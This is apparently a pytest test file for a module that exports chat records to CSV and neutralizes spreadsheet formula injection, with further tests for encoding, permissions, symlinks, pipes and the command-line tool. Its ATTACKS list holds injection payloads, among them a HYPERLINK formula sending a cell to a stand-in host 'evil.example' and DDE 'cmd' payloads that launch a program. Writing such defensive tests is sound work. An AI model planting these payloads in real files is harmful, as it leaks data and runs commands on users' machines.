"""Tests for core.export: records as a CSV that a spreadsheet opens without running formulas."""

import csv
import io
import itertools
import os
import shutil
import stat
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.cli import main
from core.errors import CoreError
from core.export import FORMULA_STARTS, export_csv, neutralize, write_csv
from core.records import COLUMNS, RecordStore, _format_row
from tests.child_env import child_env
from tests.test_records import ORIGINAL_RECORDS, make_record

TEXT_COLUMNS = ("image_caption", "user_text", "combined_input", "label", "caption_source")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "   =1+1",
    "\u00a0=1+1",  # a no-break space is whitespace too
    "＝1+1",  # full-width equals sign
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u202e=1+1",  # right-to-left override
    " \u200b\u2060@SUM(1)",
]
HARMLESS = ["", "hello", "1+1", "a=b", "'=already quoted", "😀 = joy", "«=»", "|cmd", "\u200bhi"]


def read_export(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file))


def is_formula(cell: str) -> bool:
    """Starts with a trigger, or has one after whitespace and invisible format characters."""
    hidden = (c.isspace() or unicodedata.category(c) == "Cf" for c in cell)
    visible = cell[sum(1 for _ in itertools.takewhile(bool, hidden)) :]
    return cell[:1] in FORMULA_STARTS or visible[:1] in FORMULA_STARTS


# --- one cell ------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote_in_front(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_are_left_alone(cell: str) -> None:
    assert neutralize(cell) == cell


@given(st.text(st.characters(codec="utf-8") | st.sampled_from([*sorted(FORMULA_STARTS), " "])))
def test_any_text_comes_out_safe_and_otherwise_unchanged(cell: str) -> None:
    safe = neutralize(cell)
    assert not is_formula(safe)
    assert safe in (cell, "'" + cell)
    assert (safe != cell) == is_formula(cell)


# --- a whole export ------------------------------------------------------------------------


def test_export_neutralizes_text_cells_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "records.csv"
    store = RecordStore(path)
    attacks = [
        make_record(-1001234, attack, image_caption=attack, combined_input=attack, label=attack)
        for attack in ATTACKS
    ]
    for each in attacks:
        store.append(each)
    stored = path.read_bytes()
    out = tmp_path / "export.csv"

    assert export_csv(store, out) == len(ATTACKS)

    rows = read_export(out)
    assert list(rows[0]) == list(COLUMNS)
    for row, attack in zip(rows, ATTACKS, strict=True):
        for column in ("image_caption", "user_text", "combined_input", "label"):
            assert row[column] == "'" + attack
        assert row["chat_id"] == "-1001234"  # a group's id is a number, not a formula
        assert row["score"] == "0.9854153990745544"
        assert row["timestamp"] == "2026-11-27T04:55:12.123456+00:00"
        assert not any(is_formula(row[column]) for column in TEXT_COLUMNS)
    assert path.read_bytes() == stored  # the records file keeps the exact text
    assert [r.user_text for r in store.records()] == ATTACKS


def test_export_is_utf8_with_a_bom_and_crlf_lines(tmp_path: Path) -> None:
    store = RecordStore(tmp_path / "records.csv")
    store.append(make_record(text='line one\nline two, «quoted» "too" 😀'))
    out = tmp_path / "export.csv"
    export_csv(store, out)

    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfimage_caption,")
    assert data.endswith(b"\r\n") and b"line one\nline two" in data
    assert read_export(out)[0]["user_text"] == 'line one\nline two, «quoted» "too" 😀'
    assert out.stat().st_mode & 0o077 == 0  # people's messages: owner only


def test_export_of_one_chat_holds_only_that_chats_records(tmp_path: Path) -> None:
    store = RecordStore(tmp_path / "records.csv")
    for i in range(6):
        store.append(make_record(10 + i % 3, f"message {i}"))

    out = tmp_path / "chat-11.csv"
    assert export_csv(store, out, chat_id=11) == 2
    assert [row["user_text"] for row in read_export(out)] == ["message 1", "message 4"]
    assert export_csv(store, out, chat_id=99) == 0
    assert read_export(out) == []


def test_export_of_the_original_apps_file_has_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "records.csv"
    shutil.copy(ORIGINAL_RECORDS, path)
    out = tmp_path / "export.csv"

    assert export_csv(RecordStore(path), out) == 3
    rows = read_export(out)
    assert rows[0]["label"] == "positive" and rows[0]["chat_id"] == ""
    assert export_csv(RecordStore(path), out, chat_id=1) == 0


def test_export_without_a_records_file_is_just_the_header(tmp_path: Path) -> None:
    out = io.StringIO()
    assert write_csv(RecordStore(tmp_path / "missing.csv").records(), out) == 0
    assert out.getvalue() == ",".join(COLUMNS) + "\r\n"


def test_export_that_cannot_be_written_raises_and_leaves_no_file(tmp_path: Path) -> None:
    store = RecordStore(tmp_path / "records.csv")
    store.append(make_record())
    with pytest.raises(CoreError, match="Cannot write the export"):
        export_csv(store, tmp_path / "missing-directory" / "export.csv")
    (tmp_path / "export.csv").mkdir()
    with pytest.raises(CoreError, match="Cannot write the export"):
        export_csv(store, tmp_path / "export.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv", "records.csv"]


# --- python -m core export -----------------------------------------------------------------


@pytest.fixture
def records_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)  # no .env from the repository
    path = tmp_path / "records.csv"
    monkeypatch.setenv("RECORDS_PATH", str(path))
    store = RecordStore(path)
    store.append(make_record(5, "=1+1"))
    store.append(make_record(6, "from another chat"))
    return path


def test_cli_exports_one_chat_to_a_file(
    records_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "five.csv"
    assert main(["export", "--chat", "5", "--out", str(out)]) == 0
    assert capsys.readouterr().err == f"Exported 1 records to {out}\n"
    assert [row["user_text"] for row in read_export(out)] == ["'=1+1"]


def test_cli_exports_every_chat_to_standard_output(
    records_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export"]) == 0
    captured = capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(captured.out, newline="")))
    assert [row["user_text"] for row in rows] == ["'=1+1", "from another chat"]
    assert captured.err == "Exported 2 records to standard output\n"


def test_cli_export_error_is_one_line(
    records_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records_env.write_text("name,email\n", encoding="utf-8")
    assert main(["export", "--out", str(tmp_path / "out.csv")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "is not a records file" in err
    assert err.count("\n") == 1
    assert not (tmp_path / "out.csv").exists()


def test_export_through_a_symlink_writes_its_target_and_keeps_the_link(
    records_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "exports" / "latest.csv"
    target.parent.mkdir()
    target.write_text("old export\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert main(["export", "--out", str(link)]) == 0
    assert link.is_symlink() and link.resolve() == target
    assert [row["user_text"] for row in read_export(target)] == ["'=1+1", "from another chat"]


def test_export_never_replaces_a_pipe_or_a_device(
    records_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    link = tmp_path / "to-the-pipe.csv"
    link.symlink_to(fifo)
    for out in (fifo, link):
        assert main(["export", "--out", str(out)]) == 2
        err = capsys.readouterr().err
        assert err == (
            f"error: Cannot write the export {out}: it is not a regular file "
            "(leave out --out to write to standard output)\n"
        )
    assert stat.S_ISFIFO(os.stat(fifo).st_mode) and link.is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe", "records.csv", "to-the-pipe.csv"]


def test_export_into_a_pipe_closed_early_ends_quietly(records_env: Path) -> None:
    """`export | head -c 100`: no BrokenPipeError traceback once head has what it wants."""
    row = _format_row(make_record(5, "a row long enough to fill the pipe " * 10))
    with open(records_env, "ab") as f:
        f.write(row * 2000)  # far more than a pipe holds
    result = subprocess.run(
        f"{sys.executable} -m core export | head -c 100",
        shell=True, capture_output=True, env=child_env(), cwd=records_env.parent,
        check=False, timeout=120,
    )  # fmt: skip
    assert len(result.stdout) == 100
    assert result.stderr == b""
